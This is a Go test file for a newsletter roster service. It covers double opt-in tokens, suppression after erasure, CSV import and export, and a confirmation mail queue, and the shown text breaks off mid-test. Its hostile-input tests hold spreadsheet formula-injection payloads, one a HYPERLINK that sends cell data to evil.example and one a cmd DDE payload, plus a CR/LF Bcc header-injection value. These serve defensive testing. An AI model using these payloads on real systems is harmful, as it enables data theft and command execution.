package roster_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/iotest"
	"time"

	"newsletter/internal/newsletter"
	"newsletter/internal/roster"
	"newsletter/internal/store"
	"newsletter/internal/token"
)

var t0 = time.Date(2026, 5, 4, 8, 0, 0, 0, time.UTC)

// clock is a settable test clock.
type clock struct {
	mu  sync.Mutex
	now time.Time
}

func (c *clock) Now() time.Time { c.mu.Lock(); defer c.mu.Unlock(); return c.now }
func (c *clock) Add(d time.Duration) {
	c.mu.Lock()
	c.now = c.now.Add(d)
	c.mu.Unlock()
}

// links records confirmation links instead of mailing them.
type links struct {
	mu   sync.Mutex
	sent map[string][]string
}

func (l *links) SendConfirmation(_ context.Context, sub newsletter.Subscriber, link string, _ time.Time) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.sent == nil {
		l.sent = map[string][]string{}
	}
	l.sent[sub.Email] = append(l.sent[sub.Email], link)
	return nil
}

func (l *links) last(t *testing.T, email string) string {
	t.Helper()
	l.mu.Lock()
	defer l.mu.Unlock()
	s := l.sent[email]
	if len(s) == 0 {
		t.Fatalf("no confirmation for %s", email)
	}
	return s[len(s)-1][strings.LastIndex(s[len(s)-1], "/")+1:]
}

type fixture struct {
	db    *store.DB
	svc   *roster.Service
	clock *clock
	links *links
	sg    *token.Signer
}

func setup(t testing.TB) *fixture {
	t.Helper()
	db, err := store.Open(context.Background(), filepath.Join(t.TempDir(), "r.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	sg, err := token.NewSigner(bytes.Repeat([]byte("k"), 32))
	if err != nil {
		t.Fatal(err)
	}
	c := &clock{now: t0}
	l := &links{}
	svc := roster.New(roster.Options{Store: db, Tokens: sg, Confirmations: l, BaseURL: "https://news.example.org/", ConfirmTTL: 72 * time.Hour, Now: c.Now})
	return &fixture{db: db, svc: svc, clock: c, links: l, sg: sg}
}

// lastLink sends the queued confirmations, as serve does after a sign-up, and returns the
// token of the latest link mailed to email.
func (f *fixture) lastLink(t *testing.T, email string) string {
	t.Helper()
	if _, err := f.svc.SendQueuedConfirmations(context.Background()); err != nil {
		t.Fatal(err)
	}
	return f.links.last(t, email)
}

func (f *fixture) status(t *testing.T, email string) newsletter.SubscriberStatus {
	t.Helper()
	s, err := f.db.SubscriberByEmail(context.Background(), email)
	if err != nil {
		t.Fatal(err)
	}
	return s.Status
}

func events(t *testing.T, f *fixture, email string) string {
	t.Helper()
	rec, err := f.svc.Show(context.Background(), email)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, e := range rec.Events {
		out = append(out, e.Event+"/"+e.Source+"/"+e.IP)
	}
	return strings.Join(out, " ")
}

func TestDoubleOptIn(t *testing.T) {
	ctx := context.Background()
	f := setup(t)
	out, err := f.svc.SignUp(ctx, roster.SignUp{Email: "ada@Example.COM", Name: "Ada\r\nBcc: x", IP: "192.0.2.1"})
	if err != nil || out != roster.SignUpMailed {
		t.Fatalf("sign-up: %v %v", out, err)
	}
	if st := f.status(t, "ada@example.com"); st != newsletter.StatusPending {
		t.Fatalf("status %s", st)
	}
	tok := f.lastLink(t, "ada@example.com")
	if !strings.HasPrefix(f.links.sent["ada@example.com"][0], "https://news.example.org/confirm/") {
		t.Fatalf("link %s", f.links.sent["ada@example.com"][0])
	}
	// Checking the link (the GET page) changes nothing.
	if _, err := f.svc.ConfirmTarget(ctx, tok); err != nil {
		t.Fatal(err)
	}
	if st := f.status(t, "ada@example.com"); st != newsletter.StatusPending {
		t.Fatalf("ConfirmTarget changed the status to %s", st)
	}
	sub, err := f.svc.Confirm(ctx, tok, "192.0.2.9")
	if err != nil || sub.Status != newsletter.StatusActive {
		t.Fatalf("confirm: %+v %v", sub, err)
	}
	if _, err := f.svc.Confirm(ctx, tok, "192.0.2.9"); err != nil {
		t.Fatalf("second confirm: %v", err)
	}
	if got := events(t, f, "ada@example.com"); got != "joined/web/192.0.2.1 confirmed/web/192.0.2.9" {
		t.Fatalf("consent log: %s", got)
	}
	// An active address gets no second welcome.
	out, err = f.svc.SignUp(ctx, roster.SignUp{Email: "ada@example.com", IP: "192.0.2.1"})
	if _, serr := f.svc.SendQueuedConfirmations(ctx); serr != nil {
		t.Fatal(serr)
	}
	if err != nil || out != roster.SignUpAlreadyActive || len(f.links.sent["ada@example.com"]) != 1 {
		t.Fatalf("active sign-up: %v %v, %d mails", out, err, len(f.links.sent["ada@example.com"]))
	}
	// After leaving, the old link cannot bring them back.
	if _, _, err := f.svc.Remove(ctx, "ada@example.com", "cli"); err != nil {
		t.Fatal(err)
	}
	if _, err := f.svc.Confirm(ctx, tok, ""); !errors.Is(err, roster.ErrLinkInvalid) {
		t.Fatalf("stale link after leaving: %v", err)
	}
}

func TestConfirmTokensRefused(t *testing.T) {
	ctx := context.Background()
	f := setup(t)
	for _, e := range []string{"a@example.com", "b@example.com"} {
		if _, err := f.svc.SignUp(ctx, roster.SignUp{Email: e}); err != nil {
			t.Fatal(err)
		}
	}
	a, b := f.lastLink(t, "a@example.com"), f.lastLink(t, "b@example.com")
	bSub, _ := f.db.SubscriberByEmail(ctx, "b@example.com")
	aSub, _ := f.db.SubscriberByEmail(ctx, "a@example.com")
	other, _ := token.NewSigner(bytes.Repeat([]byte("x"), 32))
	tests := []struct {
		name, tok string
		want      error
	}{
		{"truncated", a[:len(a)-1], roster.ErrLinkInvalid},
		{"empty", "", roster.ErrLinkInvalid},
		{"flipped", a[:len(a)-2] + flip(a[len(a)-2]) + a[len(a)-1:], roster.ErrLinkInvalid},
		{"other key", other.MakeExpiring(token.Confirm, aSub.ID, aSub.Email, t0.Add(time.Hour)), roster.ErrLinkInvalid},
		{"other subscriber's address", f.sg.MakeExpiring(token.Confirm, aSub.ID, bSub.Email, t0.Add(time.Hour)), roster.ErrLinkInvalid},
		{"unsubscribe token", f.sg.Make(token.Unsubscribe, aSub.ID, aSub.Email), roster.ErrLinkInvalid},
		{"wrong purpose", f.sg.MakeExpiring("other", aSub.ID, aSub.Email, t0.Add(time.Hour)), roster.ErrLinkInvalid},
		{"no such subscriber", f.sg.MakeExpiring(token.Confirm, 999, "a@example.com", t0.Add(time.Hour)), roster.ErrLinkInvalid},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := f.svc.Confirm(ctx, tt.tok, ""); !errors.Is(err, tt.want) {
				t.Fatalf("got %v, want %v", err, tt.want)
			}
		})
	}
	if f.status(t, "a@example.com") != newsletter.StatusPending || f.status(t, "b@example.com") != newsletter.StatusPending {
		t.Fatal("a refused token changed a status")
	}
	// Cross-subscriber: a's token with b's id in it acts for nobody.
	raw, _ := base64.RawURLEncoding.DecodeString(a)
	binary.BigEndian.PutUint64(raw, uint64(bSub.ID))
	if _, err := f.svc.Confirm(ctx, base64.RawURLEncoding.EncodeToString(raw), ""); !errors.Is(err, roster.ErrLinkInvalid) {
		t.Fatalf("a's token with b's id: %v", err)
	}
	// b's own link still works after all that.
	if _, err := f.svc.Confirm(ctx, b, ""); err != nil {
		t.Fatal(err)
	}
	f.clock.Add(72*time.Hour + time.Second)
	if _, err := f.svc.Confirm(ctx, a, ""); !errors.Is(err, roster.ErrLinkExpired) {
		t.Fatalf("expired: %v", err)
	}
}

func flip(c byte) string {
	if c == 'A' {
		return "B"
	}
	return "A"
}

func TestSuppressionSurvivesEraseAndImport(t *testing.T) {
	ctx := context.Background()
	f := setup(t)
	if _, _, err := f.svc.Add(ctx, roster.AddRequest{Email: "gone@example.com", Name: "Gone", Source: "cli"}); err != nil {
		t.Fatal(err)
	}
	existed, err := f.svc.Erase(ctx, "Gone@example.com")
	if err != nil || !existed {
		t.Fatalf("erase: %v %v", existed, err)
	}
	if _, err := f.db.SubscriberByEmail(ctx, "gone@example.com"); !errors.Is(err, newsletter.ErrNotFound) {
		t.Fatalf("row survived the erase: %v", err)
	}
	if _, err := f.svc.Show(ctx, "gone@example.com"); !errors.Is(err, roster.ErrSuppressed) {
		t.Fatalf("show after erase: %v", err)
	}
	csv := "email,name\nGONE@example.com,Back Again\nnew@example.com,New\n"
	rep, err := f.svc.Import(ctx, strings.NewReader(csv), roster.ImportOptions{})
	if err != nil || rep.Added != 1 || rep.Suppressed != 1 {
		t.Fatalf("import: %+v %v", rep, err)
	}
	if _, err := f.db.SubscriberByEmail(ctx, "gone@example.com"); !errors.Is(err, newsletter.ErrNotFound) {
		t.Fatal("import re-added an erased address")
	}
	if _, _, err := f.svc.Add(ctx, roster.AddRequest{Email: "gone@example.com"}); !errors.Is(err, roster.ErrSuppressed) {
		t.Fatalf("add of an erased address: %v", err)
	}
	// --resubscribe is the operator's explicit override.
	rep, err = f.svc.Import(ctx, strings.NewReader(csv), roster.ImportOptions{Resubscribe: true})
	if err != nil || rep.Added != 1 || rep.Suppressed != 0 {
		t.Fatalf("import --resubscribe: %+v %v", rep, err)
	}
	// The person's own confirmed sign-up also lifts it.
	if _, err := f.svc.Erase(ctx, "gone@example.com"); err != nil {
		t.Fatal(err)
	}
	if _, err := f.svc.SignUp(ctx, roster.SignUp{Email: "gone@example.com"}); err != nil {
		t.Fatal(err)
	}
	if _, err := f.svc.Confirm(ctx, f.lastLink(t, "gone@example.com"), ""); err != nil {
		t.Fatal(err)
	}
	if r, _ := f.db.Suppression(ctx, f.sg.Digest("gone@example.com")); r != "" {
		t.Fatalf("still suppressed after a confirmed sign-up: %s", r)
	}
}

func TestRemoveSuppressesAndFilters(t *testing.T) {
	ctx := context.Background()
	f := setup(t)
	for _, e := range []string{"a@example.com", "b@example.com", "c@example.com"} {
		if _, _, err := f.svc.Add(ctx, roster.AddRequest{Email: e, Source: "cli"}); err != nil {
			t.Fatal(err)
		}
	}
	if _, changed, err := f.svc.Remove(ctx, "a@example.com", "cli"); err != nil || !changed {
		t.Fatal(changed, err)
	}
	if err := f.svc.Suppress(ctx, "b@example.com", store.SuppressComplained, "cli"); err != nil {
		t.Fatal(err)
	}
	if err := f.svc.Suppress(ctx, "b@example.com", "nonsense", "cli"); !errors.Is(err, roster.ErrBadInput) {
		t.Fatalf("bad reason: %v", err)
	}
	subs, total, err := f.svc.List(ctx, roster.Filter{Status: "suppressed"})
	if err != nil || total != 2 || len(subs) != 2 {
		t.Fatalf("suppressed: %d %v", total, err)
	}
	if _, _, err := f.svc.List(ctx, roster.Filter{Status: "gone"}); !errors.Is(err, roster.ErrBadInput) {
		t.Fatalf("bad status: %v", err)
	}
	// An unsubscribed address in a later import is kept unsubscribed.
	rep, err := f.svc.Import(ctx, strings.NewReader("email,status\na@example.com,active\n"), roster.ImportOptions{})
	if err != nil || (rep.Kept+rep.Suppressed) != 1 || f.status(t, "a@example.com") != newsletter.StatusUnsubscribed {
		t.Fatalf("import: %+v %v", rep, err)
	}
	st, err := f.svc.Stats(ctx, 4)
	if err != nil || st.Total != 3 || st.Suppressed != 2 || len(st.Weeks) != 4 || st.Weeks[3].Joined != 3 || st.Weeks[3].Left != 2 {
		t.Fatalf("stats: %+v %v", st, err)
	}
	if got := events(t, f, "b@example.com"); got != "joined/cli/ complained/cli/" {
		t.Fatalf("consent log: %s", got)
	}
}

// TestHostileImport feeds rows an attacker or a broken spreadsheet would: each bad row
// is reported with its line, the rest are kept.
func TestHostileImport(t *testing.T) {
	ctx := context.Background()
	f := setup(t)
	long := strings.Repeat("a", 10<<10) + "@example.com"
	csv := "email,name,status\n" +
		"ok@example.com,\"Smith, Jane\",active\n" + // line 2: quoted comma
		"crlf@example.com,\"Evil\r\nBcc: victim@example.com\",\n" + // lines 3-4: CR/LF in a name
		long + ",Long,active\n" + // line 5: 10 KB address
		"bad\xff@example.com,Invalid UTF-8,\n" + // line 6
		"OK@example.com,Dupe,\n" + // line 7: line 2's address, other case in the local part (the list compares ASCII case-insensitively)
		"ok@EXAMPLE.com,Dupe Domain,\n" + // line 8: line 2's address again, domain case folded
		"\"unterminated,x\n" + // line 9: broken quoting
		"fine@example.org,Fine,bogus\n" // line 10: bad status
	rep, err := f.svc.Import(ctx, strings.NewReader(csv), roster.ImportOptions{})
	if err != nil {
		t.Fatal(err)
	}
	lines := map[int]bool{}
	for _, e := range rep.Errors {
		lines[e.Line] = true
	}
	for _, want := range []int{5, 6} {
		if !lines[want] {
			t.Errorf("line %d not reported; errors: %v", want, rep.Errors)
		}
	}
	if rep.BadRows != len(rep.Errors) || rep.ErrorsCut() {
		t.Errorf("%d bad rows, %d listed", rep.BadRows, len(rep.Errors))
	}
	sub, err := f.db.SubscriberByEmail(ctx, "crlf@example.com")
	if err != nil || strings.ContainsAny(sub.Name, "\r\n") {
		t.Fatalf("CR/LF name stored as %q (%v)", sub.Name, err)
	}
	if sub.Source != "import" {
		t.Errorf("source %q, want import (the default)", sub.Source)
	}
	// A duplicate is an update of the address its first row added: the first row's
	// spelling stays, each later row's name replaces the name, and each row is
	// counted once (lines 7 and 8 as updates).
	sub, err = f.db.SubscriberByEmail(ctx, "ok@example.com")
	if err != nil || sub.Name != "Dupe Domain" || sub.Email != "ok@example.com" {
		t.Fatalf("duplicate: %+v %v", sub, err)
	}
	if rep.Added != 2 || rep.Updated != 2 {
		t.Fatalf("good rows not kept: %+v", rep)
	}
	// Strict writes nothing.
	f2 := setup(t)
	rep, err = f2.svc.Import(ctx, strings.NewReader(csv), roster.ImportOptions{Strict: true})
	if err != nil || rep.Written || len(rep.Errors) == 0 {
		t.Fatalf("strict: %+v %v", rep, err)
	}
	if _, total, _ := f2.svc.List(ctx, roster.Filter{}); total != 0 {
		t.Fatalf("strict import wrote %d rows", total)
	}
	// A file without an email column is refused whole.
	if _, err := f2.svc.Import(ctx, strings.NewReader("name\nx\n"), roster.ImportOptions{}); !errors.Is(err, roster.ErrBadInput) {
		t.Fatalf("no email column: %v", err)
	}
}

// TestImportStops checks that an import that cannot finish keeps whole chunks, says how
// many rows it wrote and can be run again to the same end as one that did not stop;
// that a strict import with a bad row anywhere, read whole first, writes nothing; and
// that a dry run writes nothing.
func TestImportStops(t *testing.T) {
	good := bigCSV(2_500, "")
	gone := errors.New("connection reset")
	tests := []struct {
		name      string
		in        func() io.Reader
		opt       roster.ImportOptions
		cancel    bool
		wantErr   error // nil: no error
		wantRep   roster.ImportReport
		checkRows bool
	}{
		{
			name:    "read failure after a few chunks",
			in:      func() io.Reader { return io.MultiReader(strings.NewReader(good), iotest.ErrReader(gone)) },
			wantErr: roster.ErrBadInput,
		},
		{
			name:    "strict, one bad row at the end",
			in:      func() io.Reader { return strings.NewReader(good + "not-an-address\n") },
			opt:     roster.ImportOptions{Strict: true},
			wantRep: roster.ImportReport{BadRows: 1},
		},
		{
			name: "strict, bad row first, every bad row reported",
			in: func() io.Reader {
				return strings.NewReader(bigCSV(0, "x") + "a@example.com,,\ny,,\n" + good[len("email,name,status\n"):])
			},
			opt:     roster.ImportOptions{Strict: true},
			wantRep: roster.ImportReport{BadRows: 2},
		},
		{
			name:    "dry run",
			in:      func() io.Reader { return strings.NewReader(good) },
			opt:     roster.ImportOptions{DryRun: true},
			wantRep: roster.ImportReport{ImportResult: store.ImportResult{Added: 2_500}},
		},
		{
			name:    "context cancelled part way",
			in:      func() io.Reader { return strings.NewReader(good) },
			cancel:  true,
			wantErr: context.Canceled,
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := setup(t)
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			in := tc.in()
			if tc.cancel {
				in = &cancelAfter{r: in, n: len(good) / 2, cancel: cancel}
			}
			rep, err := f.svc.Import(ctx, in, tc.opt)
			if !errors.Is(err, tc.wantErr) || (tc.wantErr == nil && err != nil) {
				t.Fatalf("error %v, want %v", err, tc.wantErr)
			}
			if err == nil {
				if rep.Written || rep.ImportResult != tc.wantRep.ImportResult || rep.BadRows != tc.wantRep.BadRows || len(rep.Errors) != rep.BadRows {
					t.Fatalf("report %+v, want %+v", rep, tc.wantRep)
				}
			}
			_, total, _ := f.svc.List(context.Background(), roster.Filter{})
			if tc.wantErr == nil {
				if total != 0 {
					t.Fatalf("%d rows kept", total)
				}
				noReader(t)
				return
			}
			said := fmt.Sprintf("writing %d rows", total)
			if total == 0 {
				said = "nothing written"
			}
			if total%store.ImportChunk != 0 || rep.Rows() != total || !strings.Contains(err.Error(), said) {
				t.Fatalf("%d rows kept, %d reported, error %q; want whole chunks, all reported", total, rep.Rows(), err)
			}
			noReader(t)
			again, err := f.svc.Import(context.Background(), strings.NewReader(good), roster.ImportOptions{})
			if err != nil || again.Added != 2_500-total || again.Unchanged != total || again.Updated != 0 {
				t.Fatalf("running it again: %+v, %v; want the rest added and the %d kept unchanged", again.ImportResult, err, total)
			}
		})
	}
}

// TestStrictImportOfAStream: a strict import of a reader that cannot seek (standard
// input, an HTTP body) checks the whole of it first from a temporary copy, which it
// removes, and then writes it, or nothing when a row is bad.
func TestStrictImportOfAStream(t *testing.T) {
	tmp := t.TempDir()
	t.Setenv("TMPDIR", tmp)
	good := bigCSV(1_200, "")
	tests := []struct {
		name  string
		in    string
		added int
	}{
		{"good", good, 1_200},
		{"a bad row at the end", good + "not-an-address\n", 0},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := setup(t)
			rep, err := f.svc.Import(context.Background(), io.MultiReader(strings.NewReader(tc.in)), roster.ImportOptions{Strict: true})
			if err != nil || rep.Added != tc.added || rep.Written != (tc.added > 0) {
				t.Fatalf("report %+v, %v; want %d added", rep, err, tc.added)
			}
			if _, total, _ := f.svc.List(context.Background(), roster.Filter{}); total != tc.added {
				t.Fatalf("%d rows on the list, want %d", total, tc.added)
			}
			if left, _ := filepath.Glob(filepath.Join(tmp, "newsletter-import-*")); len(left) != 0 {
				t.Fatalf("left in the temporary directory: %v", left)
			}
		})
	}
}

// noReader fails the test if Import's reading goroutine is still running. Import
// waits for it to close its channel, which it does on its way out, so the goroutine
// may still be seen for an instant: the check looks again for a while before failing.
func noReader(t *testing.T) {
	t.Helper()
	buf := make([]byte, 1<<20)
	for range 500 {
		stacks := string(buf[:runtime.Stack(buf, true)])
		if !strings.Contains(stacks, "roster.(*importReader).read") {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("the reading goroutine outlived Import:\n%s", buf[:runtime.Stack(buf, true)])
}

// cancelAfter cancels a context once n bytes have been read through it.
type cancelAfter struct {
	r      io.Reader
	n      int
	cancel context.CancelFunc
}

func (c *cancelAfter) Read(p []byte) (int, error) {
	n, err := c.r.Read(p[:min(len(p), 4096)])
	if c.n -= n; c.n <= 0 {
		c.cancel()
	}
	return n, err
}

// TestImportBadRowsCapped checks that a file of many bad rows lists only the
// first roster.MaxReportedErrors of them but counts them all, and still imports
// the good ones.
func TestImportBadRowsCapped(t *testing.T) {
	const bad = roster.MaxReportedErrors*2 + 17
	var b strings.Builder
	b.WriteString("email\n")
	for i := range bad {
		fmt.Fprintf(&b, "bad%d\n", i)
	}
	b.WriteString("good@example.com\n")
	f := setup(t)
	rep, err := f.svc.Import(context.Background(), strings.NewReader(b.String()), roster.ImportOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if rep.BadRows != bad || len(rep.Errors) != roster.MaxReportedErrors || !rep.ErrorsCut() || rep.Added != 1 || !rep.Written {
		t.Fatalf("%d bad rows, %d listed, cut %v, %d added", rep.BadRows, len(rep.Errors), rep.ErrorsCut(), rep.Added)
	}
	if first, last := rep.Errors[0].Line, rep.Errors[len(rep.Errors)-1].Line; first != 2 || last != roster.MaxReportedErrors+1 {
		t.Fatalf("listed lines %d to %d, want the first ones", first, last)
	}
}

// bigCSV is a file of n good rows, after a bad row with address bad when it is not "".
func bigCSV(n int, bad string) string {
	var b strings.Builder
	b.WriteString("email,name,status\n")
	if bad != "" {
		b.WriteString(bad + ",Bad,\n")
	}
	for i := range n {
		fmt.Fprintf(&b, "reader%d@example.com,Reader %d,active\n", i, i)
	}
	return b.String()
}

func TestExportRoundTrip(t *testing.T) {
	ctx := context.Background()
	f := setup(t)
	if _, err := f.svc.Import(ctx, strings.NewReader("email,name,status\na@example.com,\"A, the first\",active\nb@example.com,B,unsubscribed\n"), roster.ImportOptions{}); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	n, err := f.svc.Export(ctx, &buf, roster.Filter{})
	if err != nil || n != 2 {
		t.Fatal(n, err)
	}
	g := setup(t)
	rep, err := g.svc.Import(ctx, &buf, roster.ImportOptions{})
	if err != nil || rep.Added != 2 || len(rep.Errors) != 0 {
		t.Fatalf("%+v %v", rep, err)
	}
	if g.status(t, "b@example.com") != newsletter.StatusUnsubscribed {
		t.Fatal("status lost in the round trip")
	}
}

func TestMailConfirmations(t *testing.T) {
	dir := t.TempDir()
	m, err := roster.NewMailConfirmations(roster.MailOptions{
		Transport:       outbox(dir),
		From:            mailerAddress("The Weekly", "weekly@example.org"),
		MessageIDDomain: "example.org",
		Publication:     newsletter.Publication{Name: "The Weekly", WebsiteURL: "https://example.org", PostalAddress: "1 Main St", AccentColor: "#c8102e"},
		Templates:       os.DirFS(filepath.Join("..", "..", "templates")),
		Now:             func() time.Time { return t0 },
	})
	if err != nil {
		t.Fatal(err)
	}
	link := "https://news.example.org/confirm/TOKEN"
	if err := m.SendConfirmation(context.Background(), newsletter.Subscriber{ID: 1, Email: "ada@example.com", Name: "Ada"}, link, t0.Add(72*time.Hour)); err != nil {
		t.Fatal(err)
	}
	files, _ := filepath.Glob(filepath.Join(dir, "*.eml"))
	if len(files) != 1 {
		t.Fatalf("%d messages", len(files))
	}
	raw, _ := os.ReadFile(files[0])
	for _, want := range []string{"To: \"Ada\" <ada@example.com>", "Subject: Confirm your subscription to The Weekly", "text/plain", "text/html", "Auto-Submitted: auto-generated",
		"The link works until Thursday 7 May 2026, 08:00 UTC"} {
		if !strings.Contains(string(raw), want) {
			t.Errorf("message lacks %q", want)
		}
	}
	if !regexp.MustCompile(`confirm/TOKEN`).Match(raw) {
		t.Error("message lacks the link")
	}
}

func FuzzImport(f *testing.F) {
	f.Add("email,name\na@example.com,A\n")
	f.Add("email,name,status,subscribed_at\n\"x,y\"@example.com,\"q\"\"q\",active,2026-01-01\n")
	f.Add("EMAIL\n\xff@example.com\nb@EXAMPLE.com\nB@example.com\n")
	fx := setup(f)
	f.Fuzz(func(t *testing.T, csv string) {
		ctx := context.Background()
		rep, err := fx.svc.Import(ctx, strings.NewReader(csv), roster.ImportOptions{DryRun: true})
		if err != nil {
			if !errors.Is(err, roster.ErrBadInput) {
				t.Fatalf("unexpected error kind: %v", err)
			}
			return
		}
		if rep.Written {
			t.Fatal("dry run wrote")
		}
		for _, e := range rep.Errors {
			if e.Line < 2 {
				t.Fatalf("row error on line %d: %v", e.Line, e)
			}
		}
		if _, total, _ := fx.svc.List(ctx, roster.Filter{}); total != 0 {
			t.Fatal(fmt.Sprint("dry run left ", total, " rows"))
		}
	})
}

// BenchmarkImport imports a 100,000-row CSV into a new database file, the whole
// path of `newsletter subscribers import`: reading, checking, suppression hashes,
// writing, consent log.
func BenchmarkImport(b *testing.B) {
	const n = 100_000
	data := bigCSV(n, "")
	ctx := context.Background()
	rows := 0
	for b.Loop() {
		b.StopTimer()
		f := setup(b)
		// A list that ever lost a reader has a suppression list, and then every
		// row's address is hashed to check it.
		if err := f.svc.Suppress(ctx, "gone@example.org", store.SuppressManual, "cli"); err != nil {
			b.Fatal(err)
		}
		b.StartTimer()
		rep, err := f.svc.Import(ctx, strings.NewReader(data), roster.ImportOptions{})
		if err != nil || rep.Added != n {
			b.Fatal(rep.ImportResult, err)
		}
		rows += n
	}
	b.ReportMetric(float64(rows)/b.Elapsed().Seconds(), "rows/s")
}

// TestExportRoundTripHostile exports names and addresses a spreadsheet would run as
// formulas, checks that none would, and imports the file into an empty list: the same
// list comes out, byte for byte.
func TestExportRoundTripHostile(t *testing.T) {
	ctx := context.Background()
	f := setup(t)
	people := map[string]string{
		"a@example.com":    `=HYPERLINK("http://evil.example/?x="&A2,"Click")`,
		"b@example.com":    "+cmd|' /C calc'!A0",
		"c@example.com":    "@SUM(1+1)",
		"d@example.com":    "-2+3",
		"e@example.com":    "'=quoted by hand",
		"f@example.com":    "'just an apostrophe",
		"=1+2@example.com": "=1+2",
		"-x@example.com":   "O'Brien",
		"'+y@example.com":  "",
	}
	for email, name := range people {
		if _, _, err := f.svc.Add(ctx, roster.AddRequest{Email: email, Name: name, Source: "cli"}); err != nil {
			t.Fatalf("%s: %v", email, err)
		}
	}
	var first bytes.Buffer
	if n, err := f.svc.Export(ctx, &first, roster.Filter{}); err != nil || n != len(people) {
		t.Fatal(n, err)
	}
	for _, line := range strings.Split(strings.TrimSpace(first.String()), "\n") {
		for _, cell := range strings.Split(line, ",") {
			cell = strings.TrimPrefix(cell, `"`)
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q of %q starts a formula", cell, line)
			}
		}
	}
	g := setup(t)
	rep, err := g.svc.Import(ctx, bytes.NewReader(first.Bytes()), roster.ImportOptions{})
	if err != nil || rep.Added != len(people) || rep.BadRows != 0 {
		t.Fatalf("%+v %v", rep, err)
	}
	for email, name := range people {
		s, err := g.db.SubscriberByEmail(ctx, email)
		if err != nil {
			t.Fatalf("%s: %v", email, err)
		}
		if s.Name != name {
			t.Errorf("%s: name %q after the round trip, want %q", email, s.Name, name)
		}
	}
	var second bytes.Buffer
	if _, err := g.svc.Export(ctx, &second, roster.Filter{}); err != nil {
		t.Fatal(err)
	}
	if first.String() != second.String() {
		t.Errorf("export after the round trip differs:\n%s\nwant\n%s", second.String(), first.String())
	}
}

// relay is a confirmation mailer that can be down, counting what it was asked to send.
type relay struct {
	mu    sync.Mutex
	down  bool
	calls int
	sent  []string
}

func (r *relay) SendConfirmation(_ context.Context, sub newsletter.Subscriber, _ string, _ time.Time) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.calls++
	if r.down {
		return errors.New("451 relay unavailable")
	}
	r.sent = append(r.sent, sub.Email)
	return nil
}

// TestSignUpMailsOutsideTheRequest: whatever the address's standing, a sign-up takes the same
// path (a pending row and a queued confirmation) and sends no mail itself, so its answer
// cannot tell who is subscribed; the queue then mails the ones that are pending, retries
// while the relay is down, and drops the active one.
func TestSignUpMailsOutsideTheRequest(t *testing.T) {
	ctx := context.Background()
	f := setup(t)
	r := &relay{down: true}
	svc := roster.New(roster.Options{Store: f.db, Tokens: f.sg, Confirmations: r, BaseURL: "https://news.example.org", Now: f.clock.Now})
	for _, s := range []newsletter.Subscriber{
		{Email: "active@example.com", Status: newsletter.StatusActive},
		{Email: "left@example.com", Status: newsletter.StatusUnsubscribed},
		{Email: "waiting@example.com", Status: newsletter.StatusPending},
	} {
		if _, _, err := f.db.AddSubscriber(ctx, s, t0); err != nil {
			t.Fatal(err)
		}
	}
	for _, addr := range []string{"new@example.com", "waiting@example.com", "left@example.com", "active@example.com"} {
		if _, err := svc.SignUp(ctx, roster.SignUp{Email: addr, IP: "192.0.2.1"}); err != nil {
			t.Fatalf("sign-up %s: %v", addr, err)
		}
		if r.calls != 0 {
			t.Fatalf("sign-up of %s mailed inside the request", addr)
		}
	}
	due, err := f.db.DueConfirmations(ctx, f.clock.Now(), 10)
	if err != nil || len(due) != 4 {
		t.Fatalf("queued %d confirmations, %v; want one per sign-up", len(due), err)
	}
	// The relay is down: nothing is lost, the queue tries again later.
	if n, err := svc.SendQueuedConfirmations(ctx); err != nil || n != 0 {
		t.Fatalf("with the relay down: %d sent, %v", n, err)
	}
	if due, _ := f.db.DueConfirmations(ctx, f.clock.Now(), 10); len(due) != 0 {
		t.Fatalf("%d confirmations due again at once; want them put off", len(due))
	}
	f.clock.Add(time.Minute)
	r.mu.Lock()
	r.down = false
	r.mu.Unlock()
	if n, err := svc.SendQueuedConfirmations(ctx); err != nil || n != 3 {
		t.Fatalf("with the relay back: %d sent, %v; want 3", n, err)
	}
	slices.Sort(r.sent)
	if want := []string{"left@example.com", "new@example.com", "waiting@example.com"}; !slices.Equal(r.sent, want) {
		t.Fatalf("mailed %v, want %v (no second welcome for the active one)", r.sent, want)
	}
	if due, _ := f.db.DueConfirmations(ctx, f.clock.Now().Add(24*time.Hour), 10); len(due) != 0 {
		t.Fatalf("%d confirmations still queued", len(due))
	}
}

// reentrant mails like relay, and on its first mail lets another process send the queue,
// as a second serve on the same database would while this one is mid-batch.
type reentrant struct {
	relay
	other func()
}

func (r *reentrant) SendConfirmation(ctx context.Context, sub newsletter.Subscriber, link string, expires time.Time) error {
	if r.other != nil {
		other := r.other
		r.other = nil
		other()
	}
	return r.relay.SendConfirmation(ctx, sub, link, expires)
}

// TestTwoSendersMailEachConfirmationOnce: two services sending one queue never both mail a row.
func TestTwoSendersMailEachConfirmationOnce(t *testing.T) {
	ctx := context.Background()
	f := setup(t)
	mailer := &reentrant{}
	first := roster.New(roster.Options{Store: f.db, Tokens: f.sg, Confirmations: mailer, BaseURL: "https://news.example.org", Now: f.clock.Now})
	second := roster.New(roster.Options{Store: f.db, Tokens: f.sg, Confirmations: mailer, BaseURL: "https://news.example.org", Now: f.clock.Now})
	for i := range 5 {
		if _, err := first.SignUp(ctx, roster.SignUp{Email: fmt.Sprintf("r%d@example.com", i)}); err != nil {
			t.Fatal(err)
		}
	}
	mailer.other = func() {
		if _, err := second.SendQueuedConfirmations(ctx); err != nil {
			t.Error(err)
		}
	}
	if _, err := first.SendQueuedConfirmations(ctx); err != nil {
		t.Fatal(err)
	}
	seen := map[string]int{}
	for _, addr := range mailer.sent {
		seen[addr]++
	}
	if len(mailer.sent) != 5 || len(seen) != 5 {
